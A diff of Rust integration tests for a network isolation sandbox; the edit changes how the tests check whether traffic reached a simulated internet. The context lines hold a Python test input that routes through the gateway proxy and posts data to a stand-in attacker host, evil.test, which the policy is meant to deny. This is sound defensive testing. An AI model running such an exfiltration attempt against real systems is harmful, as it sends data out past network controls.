@@ -56,7 +56,7 @@ pub(crate) async fn proxies_are_held_to_the_same(class: IsolationClass) {
         "http(gateway(), 3128, b'GET http://allowed.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')".to_owned(),
     ] {
         assert!(scene.gets_through(&good).await, "{good}");
-        assert!(!scene.internet.seen().is_empty(), "{good}");
+        assert!(scene.internet.sees(|_| true).await, "{good}");
     }
     let told = scene.python("import urllib.request as u, os\nfor line in open('/etc/resolv.conf'): g = line.split()[-1]\nu.install_opener(u.build_opener(u.ProxyHandler({'https': 'http://%s:3128' % g})))\ntry: u.urlopen('https://evil.test/', data=b'x')\nexcept Exception as e: print(e)").await;
     assert!(told.text().contains("denied by network.default"), "a program that uses a proxy shows the rule: {told}");
@@ -64,13 +64,13 @@ pub(crate) async fn proxies_are_held_to_the_same(class: IsolationClass) {
     let control = Scene::control(class).await;
     for bad in &bad[..5] {
         assert!(control.gets_through(bad).await, "{class}: the control did not get through: {bad}");
-        assert!(!control.internet.seen().is_empty(), "{class}: the control left no trace: {bad}");
+        assert!(control.internet.sees(|_| true).await, "{class}: the control left no trace: {bad}");
     }
     control.close().await;
     let raw = Scene::open(class, &POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"scheme":"raw"}"#)).await;
     for bad in &bad[5..8] {
         assert!(raw.gets_through(bad).await, "{class}: the control did not get through: {bad}");
-        assert!(!raw.internet.seen().is_empty(), "{class}: the control left no trace: {bad}");
+        assert!(raw.internet.sees(|_| true).await, "{class}: the control left no trace: {bad}");
     }
     raw.close().await;
 }
@@ -102,9 +102,9 @@ pub(crate) async fn plain_requests_are_read_strictly(class: IsolationClass) {
     for request in requests {
         let sent = format!("s = socket.create_connection(('allowed.test', 80)); s.sendall(b'{request}'); recv_some(s)");
         assert!(raw.gets_through(&sent).await, "{class}: the control did not get through: {request}");
-        assert!(raw.internet.seen().iter().any(|line| line.starts_with("http ")), "{class}: the control left no trace: {request}");
+        assert!(raw.internet.sees(|line| line.starts_with("http ")).await, "{class}: the control left no trace: {request}");
     }
     assert!(raw.gets_through(&second.replace("recv_all(s)", "recv_some(s)")).await);
-    assert!(raw.internet.seen().iter().any(|line| line.contains("/second")));
+    assert!(raw.internet.sees(|line| line.contains("/second")).await);
     raw.close().await;
 }
